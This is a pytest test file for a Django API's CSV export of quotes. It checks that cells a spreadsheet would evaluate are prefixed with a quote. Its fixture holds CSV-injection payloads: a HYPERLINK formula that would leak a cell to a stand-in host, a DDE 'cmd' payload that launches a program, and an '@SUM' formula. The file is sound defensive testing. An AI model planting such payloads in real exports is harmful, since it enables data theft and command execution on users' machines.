"""The API's CSV (?format=csv on /api/quotes/) carries no live spreadsheet formula: a text cell
that a spreadsheet would evaluate starts with ' (quotes.text.spreadsheet_safe); numbers stay
numbers."""

import pytest

from tests.api.helpers import csv_rows
from tests.factories import QuoteFactory, SourceFactory, StanceAnnotationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


@pytest.fixture
def hostile_quote(topic):
    source = SourceFactory(title="=cmd|' /C calc'!A0", text=f"He wrote “{FORMULA}” and left.")
    quote = QuoteFactory(source=source, text=FORMULA, affiliation__role="@SUM(A1:A9)")
    StanceAnnotationFactory(quote=quote, topic=topic, value=-2)
    return quote


@pytest.mark.parametrize("query", [{}, {"topic": "nato-russia-dialogue"}], ids=["all", "topic"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote(
    api_client, hostile_quote, query
):
    [row] = csv_rows(api_client.get("/api/quotes/", {"format": "csv", **query}))

    assert row["text"] == "'" + FORMULA
    assert row["title"] == "'=cmd|' /C calc'!A0"
    assert row["role"] == "'@SUM(A1:A9)"
    assert row["stance:nato-russia-dialogue"] == "-2.0"  # a number, not text
    assert row["outlet"] == "The Daily Test"
